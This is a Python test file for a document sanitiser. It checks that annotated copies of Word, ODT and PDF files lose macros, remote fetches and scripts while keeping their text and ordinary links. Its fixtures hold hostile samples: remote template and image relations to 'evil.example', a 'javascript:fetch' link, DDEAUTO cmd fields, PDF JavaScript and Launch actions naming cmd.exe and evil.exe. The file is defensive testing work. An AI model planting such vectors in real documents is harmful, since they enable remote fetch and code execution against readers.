"""A copy hands on nothing that would run or fetch, whatever the author's file holds, and every word stays."""

import io

import pikepdf
import pytest

from tests.annotate.copies import annotated, parts, texts
from tests.builders.odf import TEXT_TYPE, a_flat_odt, an_odt
from tests.builders.odf import part as xml
from tests.builders.pdfs import Page, pdf
from tests.builders.wordml import TYPES, field, paragraph, relationships, word_file

MAIN, SETTINGS, HEADER = (f"word/_rels/{name}.xml.rels" for name in ("document", "settings", "header1"))
EVIL = "http://evil.example/x"
MACROS = TYPES.replace(
    "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
).replace(
    "</Types>",
    '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
)


def outside(where, kind):
    return {where: relationships(("r", kind, EVIL, True))}


def whole(data):
    """Everything in a package, names and contents."""
    return b"\n".join(name.encode() + b"\n" + content for name, content in parts(data).items())


@pytest.mark.parametrize(
    "more",
    [
        outside(SETTINGS, "attachedTemplate"),
        outside(MAIN, "oleObject"),
        outside(MAIN, "image"),
        outside(HEADER, "image"),
        outside(MAIN, "subDocument"),
        outside(MAIN, "frame"),
        outside(MAIN, "aFChunk"),
        {MAIN: relationships(("r", "hyperlink", f"javascript:fetch('{EVIL}')", True))},
    ],
)
def test_a_word_copy_leads_nowhere(more):
    before, copy, after = annotated(word_file(paragraph("目標為99,039人次"), parts=more), "plan.docx", "99,039")
    assert before.active
    assert after.active == ()
    assert b"evil.example" not in whole(copy)
    assert b"javascript:" not in whole(copy)
    assert texts(after) == texts(before)
    # What refers to the relation still finds it: without it Word calls the file damaged.
    [where] = more
    assert b'Id="r"' in parts(copy)[where]


def test_a_word_copy_keeps_its_ordinary_links():
    links = relationships(("r", "hyperlink", "https://example.org", True), ("s", "image", EVIL, True))
    _, copy, _ = annotated(word_file(paragraph("目標"), parts={MAIN: links}), "plan.docx", "目標")
    assert b"https://example.org" in parts(copy)[MAIN]


def test_a_word_copy_has_no_macros_and_is_no_file_with_macros():
    more = {
        "[Content_Types].xml": MACROS,
        MAIN: relationships(("r", "vbaProject", "vbaProject.bin"), ("s", "image", "media/a.png")),
        "word/vbaProject.bin": b"Attribute VB_Name",
        "word/_rels/vbaProject.bin.rels": relationships(("r", "wordVbaData", "vbaData.xml")),
        "word/vbaData.xml": "<x/>",
    }
    before, copy, after = annotated(word_file(paragraph("目標"), parts=more), "plan.docm", "目標", again="plan.docx")
    assert before.active
    assert after.active == ()
    assert b"vba" not in whole(copy).lower()
    assert b"macroEnabled" not in whole(copy)
    assert b"media/a.png" in parts(copy)[MAIN]


@pytest.mark.parametrize(
    "code", [f' INCLUDEPICTURE "{EVIL}" ', f" includetext {EVIL} ", f" DDEAUTO cmd {EVIL} ", f' LINK Excel.Sheet "{EVIL}" ']
)
def test_a_field_of_a_word_copy_shows_what_it_showed_and_fetches_nothing(code):
    before, copy, after = annotated(word_file(paragraph("目標", field(code, "文"), field(" PAGE ", "1"))), "plan.docx", "目標")
    assert before.active
    assert after.active == ()
    assert texts(after) == texts(before)
    assert b"evil.example" not in whole(copy)
    assert b" PAGE " in parts(copy)["word/document.xml"]


def test_a_field_whose_code_is_divided_is_found_as_well():
    pieces = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in (" DD", "EAU", f"TO cmd {EVIL} "))
    begin, parted, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    body = paragraph("目標", f"{begin}{pieces}{parted}<w:r><w:t>文</w:t></w:r>{end}")
    _, copy, after = annotated(word_file(body), "plan.docx", "目標")
    assert after.active == ()
    assert b"evil.example" not in whole(copy)


@pytest.mark.parametrize(
    "body",
    [
        f'<draw:frame><draw:image xlink:href="{EVIL}"/></draw:frame>',
        '<draw:frame><draw:image xlink:href="../evil.example.png"/></draw:frame>',
        f'<draw:frame><draw:object xlink:href="{EVIL}"/></draw:frame>',
        f'<draw:frame><draw:floating-frame xlink:href="{EVIL}"/></draw:frame>',
        f'<text:section><text:section-source xlink:href="{EVIL}"/><text:p>節</text:p></text:section>',
        '<text:p>前<text:a xlink:href="vnd.sun.star.script:evil.example">甲</text:a>後</text:p>',
        '<text:p>前<text:execute-macro text:name="evil.example">按</text:execute-macro>後</text:p>',
        '<text:p>前<text:script script:language="x">evil.example</text:script>後</text:p>',
        '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:evil.example"/></office:event-listeners>',
    ],
)
@pytest.mark.parametrize("flat", [False, True])
def test_an_odt_copy_runs_and_fetches_nothing_and_keeps_its_words(body, flat):
    content = f"<text:p>目標為99,039人次</text:p>{body}<text:p>末</text:p>"
    mimetype = f'<office:document office:mimetype="{TEXT_TYPE}"'.encode()
    data, name = an_odt(content), "plan.odt"
    if flat:
        data, name = a_flat_odt(content).replace(b"<office:document", mimetype, 1), "plan.fodt"
    before, copy, after = annotated(data, name, "99,039")
    assert before.active
    assert after.active == ()
    assert b"evil.example" not in (copy if flat else whole(copy))
    assert texts(after) == texts(before)


def test_an_odt_copy_has_no_macros_no_listed_ones_and_no_template_elsewhere():
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{one}"/>'
        for one in ("content.xml", "Basic/", "Basic/Standard/Module1.xml", "Scripts/python/a.py")
    )
    extra = {
        "Basic/Standard/Module1.xml": b"<x/>",
        "Scripts/python/a.py": b"import os",
        "meta.xml": xml("office:document-meta", f'<office:meta><meta:template xlink:href="{EVIL}"/></office:meta>'),
        "META-INF/manifest.xml": xml("manifest:manifest", entries),
    }
    before, copy, after = annotated(an_odt("<text:p>計畫</text:p>", extra=extra), "plan.odt", "計畫")
    assert len(before.active) == 3
    assert after.active == ()
    held = whole(copy)
    assert not any(one in held for one in (b"Basic/", b"Scripts/", b"evil.example"))
    assert b'full-path="content.xml"' in held


WORDS = Page().text(70, 90, "目標為99,039人次")


@pytest.mark.parametrize(
    "made",
    [
        pdf(WORDS, catalog="/OpenAction 10 0 R", objects=["<< /S /JavaScript /JS (app.alert(1)) >>"]),
        pdf(WORDS, catalog="/OpenAction << /S /Launch /F (evil.exe) >>"),
        pdf(WORDS, catalog="/AA << /WC << /S /JavaScript /JS (evil) >> >>"),
        pdf(WORDS, catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (evil) >>] >> >>"),
        pdf(WORDS, catalog="/AcroForm << /Fields [] /XFA (evil) >>"),
    ],
)
def test_a_pdf_copy_runs_nothing(made):
    before, copy, after = annotated(made, "plan.pdf", "99,039")
    assert before.active
    assert after.active == ()
    assert texts(after) == texts(before)
    with pikepdf.open(io.BytesIO(copy)) as opened:
        held = b"".join(one.unparse(resolved=True) for one in opened.objects if not isinstance(one, pikepdf.Stream))
    assert not any(one in held for one in (b"evil", b"alert", b"/Launch", b"/JavaScript", b"/XFA"))


def test_a_pdf_copy_carries_no_other_file_and_keeps_its_links():
    page = Page().text(70, 90, "目標為99,039人次")
    page.annotation("/Subtype /Link /A << /S /URI /URI (https://example.org) >>", (1, 1, 9, 9))
    page.annotation("/Subtype /Link /A << /S /Launch /F (cmd.exe) >>", (10, 1, 19, 9))
    page.annotation("/Subtype /FileAttachment /FS << /Type /Filespec /F (evil.exe) >>", (20, 1, 29, 9))
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(page))) as made:
        made.attachments["預算.xlsm"] = b"PK-evil"
        made.save(target)
    before, copy, after = annotated(target.getvalue(), "plan.pdf", "99,039")
    assert {one.kind for one in before.active} == {"action", "attachment"}
    assert after.active == ()
    with pikepdf.open(io.BytesIO(copy)) as opened:
        assert list(opened.attachments) == []
        subtypes = [str(one.Subtype) for one in opened.pages[0].Annots]
        assert subtypes.count("/Link") == 2
        assert "/FileAttachment" not in subtypes
        assert [str(one.A.URI) for one in opened.pages[0].Annots if "/URI" in one.get("/A", {})] == ["https://example.org"]


def test_a_file_without_such_things_is_copied_as_before():
    data = word_file(paragraph("目標為99,039人次"), parts={"word/customizations.xml": "<x/>"})
    _, copy, _ = annotated(data, "plan.docx", "99,039")
    assert parts(copy)["word/customizations.xml"] == b"<x/>"
